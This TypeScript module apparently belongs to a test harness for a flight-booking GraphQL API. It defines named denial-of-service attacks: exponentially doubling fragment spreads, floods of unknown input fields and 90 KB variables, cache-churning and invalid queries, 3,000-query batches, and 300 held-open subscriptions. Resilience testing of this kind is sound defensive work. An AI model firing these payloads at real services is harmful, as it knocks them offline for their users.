import { answered, ask, type Attack, flood, post } from "./attack.ts";

/** Fragments each of which spreads the next one twice: 2^n fields, written out. */
function doubling(count: number): string {
  const fragments = Array.from({ length: count }, (_, n) =>
    n === count - 1
      ? `fragment F${n} on Query { __typename }`
      : `fragment F${n} on Query { ...F${n + 1} ...F${n + 1} }`,
  );
  return `{ ...F0 } ${fragments.join(" ")}`;
}

const json = (value: unknown): string => JSON.stringify(value);

export const graphqlAttacks: readonly Attack[] = [
  {
    name: "fragments-double",
    about: "60 fragments, each of which spreads the next one twice",
    run: async (victim) => void (await ask(victim, doubling(60))),
  },
  {
    name: "fragments-double-get",
    about: "the same by GET",
    async run({ fetch }) {
      await answered(fetch(`/graphql?query=${encodeURIComponent(doubling(60))}`));
    },
  },
  {
    name: "misspelt-inputs",
    about: "6,000 unknown fields in an input object, and 900 spreads of unknown fragments",
    async run(victim) {
      const input = Object.fromEntries(
        Array.from({ length: 6_000 }, (_, n) => [`contactEmai${n}`, 1]),
      );
      const query = "mutation ($v: CreateBookingInput!) { createBooking(input: $v) { reference } }";
      await flood(60, 8, () => ask(victim, query, { v: input }));
      const spreads = Array.from({ length: 900 }, (_, n) => `...F${n}`).join(" ");
      await flood(60, 8, (n) => ask(victim, `query Q${n} { ${spreads} }`));
    },
  },
  {
    name: "long-variables",
    about: "strings of 90 KB as city, cursor, id and name",
    async run(victim) {
      const long = "A".repeat(90_000);
      const queries = [
        'query ($v: String!) { searchFlights(origin: $v, destination: $v, departureDate: "2030-01-01") { totalResults } }',
        "query ($v: String) { flights(after: $v) { totalCount } }",
        "query ($v: ID!) { node(id: $v) { id } }",
      ];
      for (const query of queries) await flood(40, 8, () => ask(victim, query, { v: long }));
    },
  },
  {
    name: "different-queries",
    about: "900 different queries, each 4 times in a row, so that each is worth compiling",
    run: (victim) =>
      flood(900, 4, async (n) => {
        const names = ["flightId", "flightNumber", "airline", "origin", "destination", "duration"];
        const fields = Array.from({ length: 15 }, (_, m) => `a${m}: ${names[m % names.length]}`);
        const query = `query Q${n} { flight(flightId: 1) { ${fields.join(" ")} price { amount } } }`;
        for (let run = 0; run < 4; run += 1) await ask(victim, query);
      }),
  },
  {
    name: "different-faults",
    about: "1,000 different queries that are not valid",
    run: (victim) =>
      flood(1_000, 16, (n) =>
        ask(victim, `{ ${Array.from({ length: 20 }, (_, m) => `x${n}y${m}`).join(" ")} }`),
      ),
  },
  {
    name: "query-batches",
    about: "arrays of 3,000 queries in one body",
    async run({ fetch }) {
      const batch = json(Array.from({ length: 3_000 }, () => ({ query: "{ __typename }" })));
      await flood(40, 8, () => answered(fetch("/graphql", post(batch))));
    },
  },
  {
    name: "subscriptions",
    about: "300 subscriptions that stay open",
    async run({ fetch }) {
      const query = "subscription { seatsChanged(flightId: 1) { flightId } }";
      const streams: Response[] = [];
      await flood(300, 50, async () =>
        streams.push(
          await fetch("/graphql", post(json({ query }), { accept: "text/event-stream" })),
        ),
      );
      for (const stream of streams) await stream.body?.cancel();
    },
  },
];
